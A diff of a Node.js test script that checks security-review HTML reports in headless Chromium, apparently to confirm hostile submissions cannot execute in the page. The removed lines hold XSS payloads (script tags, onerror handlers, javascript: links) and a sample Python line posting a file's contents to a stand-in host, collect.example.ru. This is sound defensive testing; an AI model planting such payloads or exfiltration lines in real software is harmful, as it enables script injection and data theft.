@@ -4,7 +4,7 @@
 // to say, nothing sticks out at the side, and every printed sheet carries the digest of the report.
 //
 // usage: html.js [FILE...]     without files: the committed sample, and fresh reviews, by the program that CANDOR names, of
-// tests/cases/acme-agent and of a submission whose names and lines try what they can, into the folder that SCRATCH names.
+// tests/cases/acme-agent and of every hostile submission, into the folder that SCRATCH names.
 // Needs chromium and pdftotext, and the npm packages of package.json (NODE_PATH).
 const { execFileSync, spawnSync } = require("child_process");
 const crypto = require("crypto");
@@ -24,24 +24,10 @@ const { chromium } = require("playwright-core");
 const { HtmlValidate } = require("html-validate");
 const AXE = fs.readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
 
-// Markup, control and bidirectional characters, quotes, long lines, bytes that are not UTF-8: in names and in lines.
-const MARKUP = "</code></style><script>document.title='ran';alert(1)</script><img src=x onerror=alert(2)>\"'&{{7*7}}";
-const NAMES = ["plain", "<img src=x onerror=alert(3)>", "\u202egnp", "a\u0007\u001b[2Jb", "\"onmouseover=\"alert(4)", "'&amp;<b>", "x".repeat(120)];
-
+/** A submission for each hostile text, all of them below one folder. */
 function hostile(folder) {
-  for (const [index, name] of NAMES.entries()) {
-    const lines = [
-      `import requests, os  # ${MARKUP}`,
-      `def send_${index}(path):  # \u202e\u2066\u200b\ufeff ${"y".repeat(index === 0 ? 200000 : 10)}`,
-      `    # <a href="javascript:alert(5)">${MARKUP}`,
-      `    body = open(path + ${JSON.stringify(MARKUP)}).read()  # \u001b]0;x\u0007`,
-      `    requests.post("https://collect.example.ru/<script>alert(6)</script>?${index}", data=body); z = "${"漢".repeat(index === 1 ? 5000 : 1)}"`,
-      "",
-    ];
-    fs.mkdirSync(path.join(folder, name), { recursive: true });
-    fs.writeFileSync(path.join(folder, name, `${name.slice(0, 20)}.py`), Buffer.concat([Buffer.from(lines.join("\n")), Buffer.from("# \xff\xfe\n", "latin1")]));
-  }
-  fs.writeFileSync(path.join(folder, "submission.toml"), `vendor = "<script>alert(7)</script>"\nproduct = "</title><script>alert(8)</script>"\nversion = "1 & <2>"\n`);
+  execFileSync(process.env.PYTHON ?? "python3", [path.join(__dirname, "hostile/submissions.py"), folder]);
+  return fs.readdirSync(folder).map((name) => path.join(folder, name));
 }
 
 function review(submission, name) {
@@ -54,20 +40,20 @@ function review(submission, name) {
   return path.join(pack, "report.html");
 }
 
+/** Pages to look at in every way, and pages of which it is enough that nothing acts. */
 function pages() {
-  if (process.argv.length > 2) return process.argv.slice(2).map((file) => path.resolve(file));
+  if (process.argv.length > 2) return [process.argv.slice(2).map((file) => path.resolve(file)), []];
   const found = [path.join(ROOT, "reports/sample/report.html")];
-  if (process.env.CANDOR && process.env.SCRATCH) {
-    const submission = path.join(process.env.SCRATCH, "hostile");
-    hostile(submission);
-    found.push(review(path.join(ROOT, "tests/cases/acme-agent"), "acme"), review(submission, "hostile"));
-    const told = fs.readFileSync(found[2], "utf8");
-    // Whether the submission got as far as the page at all.
-    for (const part of ["send_0", "Russia (RU)", "onerror=alert(2)", "\\u{202e}"]) {
-      if (!told.includes(part)) throw new Error(`the hostile review does not show ${part}`);
-    }
+  if (!process.env.CANDOR || !process.env.SCRATCH) return [found, []];
+  const all = path.join(process.env.SCRATCH, "hostile");
+  const submissions = hostile(all);
+  found.push(review(path.join(ROOT, "tests/cases/acme-agent"), "acme"), review(all, "hostile"));
+  const told = fs.readFileSync(found[2], "utf8");
+  // Whether the submissions got as far as the page at all.
+  for (const part of ["hostile-markup", "Russia (RU)", "onerror=alert(2)", "\\u{202e}"]) {
+    if (!told.includes(part)) throw new Error(`the hostile review does not show ${part}`);
   }
-  return found;
+  return [found, submissions.map((submission) => review(submission, path.basename(submission)))];
 }
 
 let failures = 0;
@@ -112,7 +98,8 @@ async function open(browser, file, width, colorScheme) {
   return page;
 }
 
-async function looks(browser, file, width, colorScheme) {
+/** What is laid out, with nothing in it that could act. */
+async function harmless(browser, file, width, colorScheme) {
   const page = await open(browser, file, width, colorScheme);
   const what = `${width} px, ${colorScheme}`;
   const found = await page.evaluate(() => ({
@@ -132,6 +119,12 @@ async function looks(browser, file, width, colorScheme) {
     document.querySelectorAll("details").forEach((details) => (details.open = true));
     document.querySelectorAll(".finding").forEach((finding) => (finding.style.contentVisibility = "visible"));
   });
+  return page;
+}
+
+async function looks(browser, file, width, colorScheme) {
+  const page = await harmless(browser, file, width, colorScheme);
+  const what = `${width} px, ${colorScheme}`;
   await page.evaluate(AXE);
   const outcome = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ["violations"] }));
   const serious = outcome.violations.filter((violation) => ["serious", "critical"].includes(violation.impact));
@@ -174,12 +167,18 @@ async function paper(browser, file) {
 
 (async () => {
   const browser = await chromium.launch({ executablePath: BROWSER, args: process.getuid?.() === 0 ? ["--no-sandbox"] : [] });
-  for (const file of pages()) {
+  const [whole, rest] = pages();
+  for (const file of whole) {
     console.log(`${path.basename(path.dirname(file))}/${path.basename(file)}: ${fs.statSync(file).size} bytes`);
     await validate(file);
     for (const [width, scheme] of [[1280, "light"], [1280, "dark"], [390, "light"], [390, "dark"]]) await looks(browser, file, width, scheme);
     await keyboard(browser, file);
     await paper(browser, file);
+  }
+  for (const file of rest) {
+    console.log(`${path.basename(path.dirname(file))}/${path.basename(file)}: ${fs.statSync(file).size} bytes`);
+    await validate(file);
+    await (await harmless(browser, file, 390, "light")).close();
   }
   await browser.close();
   console.log(failures === 0 ? "ok" : `${failures} failures`);
